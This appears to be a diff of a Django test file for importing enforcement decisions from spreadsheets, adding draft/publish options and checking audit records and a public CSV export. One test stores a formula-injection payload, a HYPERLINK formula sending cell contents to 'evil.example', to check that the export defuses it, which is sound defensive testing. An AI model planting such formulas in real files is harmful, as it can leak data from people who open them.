@@ -111,7 +111,7 @@ def test_a_bad_file_is_refused_by_the_command_without_a_traceback(unit_a, tmp_pa
 def test_a_stale_dimension_imports_every_row_not_just_the_first(unit_a):
     rows = [penalty_row(f"维{n}号") for n in range(1, 7)]
     stale = with_dimension(xlsx(rows), "A1:M2")  # says: a header and one row
-    result = decisions_import(unit=unit_a, name="d.xlsx", content=stale)
+    result = decisions_import(unit=unit_a, name="d.xlsx", content=stale, publish=False)
     assert result.created == 6
     assert Decision.objects.count() == 6
 
@@ -123,13 +123,13 @@ def test_the_command_writes_the_same_audit_row_as_the_admin(client, editor_a, un
     client.post(reverse("admin:enforcement_decision_import"), {"unit": unit_a.pk, "file": upload})
     path = tmp_path / "a.xlsx"
     path.write_bytes(xlsx([penalty_row("命令9号"), licence_row("命令许9号")]))
-    call_command("import_enforcement", str(path), "--unit", unit_a.code, stdout=io.StringIO())
+    call_command("import_enforcement", str(path), "--unit", unit_a.code, "--draft", stdout=io.StringIO())
     path.write_bytes(xlsx([penalty_row("命令10号")]))
     call_command("import_enforcement", str(path), "--unit", unit_a.code, "--by", "editor-a", stdout=io.StringIO())
     rows = AuditEvent.objects.filter(event=Event.IMPORT).order_by("id").values_list("username", "result", "detail")
     assert list(rows) == [
         ("editor-a", "success", f"{unit_a.code} a.xlsx：1 条，公开 1 条"),
-        (COMMAND_LINE, "success", f"{unit_a.code} a.xlsx：2 条，公开 2 条"),
+        (COMMAND_LINE, "success", f"{unit_a.code} a.xlsx：2 条，公开 0 条"),
         ("editor-a", "success", f"{unit_a.code} a.xlsx：1 条，公开 1 条"),
     ]
     assert Decision.objects.get(decision_number="命令10号").created_by == editor_a
@@ -137,9 +137,10 @@ def test_the_command_writes_the_same_audit_row_as_the_admin(client, editor_a, un
         call_command("import_enforcement", str(path), "--unit", unit_a.code, "--by", "nobody")
 
 
-def test_the_public_export_defuses_a_formula_that_came_in_with_an_import(client, unit_a):
+def test_the_public_export_defuses_a_formula_that_came_in_with_an_import(client, unit_a, editor_a):
     formula = '=HYPERLINK("https://evil.example/?"&A1,"详情")'
-    decisions_import(unit=unit_a, name="d.csv", content=csv_bytes([penalty_row("公式1号", 行政相对人名称=formula)]))
+    content = csv_bytes([penalty_row("公式1号", 行政相对人名称=formula)])
+    decisions_import(unit=unit_a, name="d.csv", content=content, by=editor_a)
     assert Decision.objects.get().party_name == formula  # stored as typed; defused on the way out
     response = client.get(reverse("enforcement:export"))
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
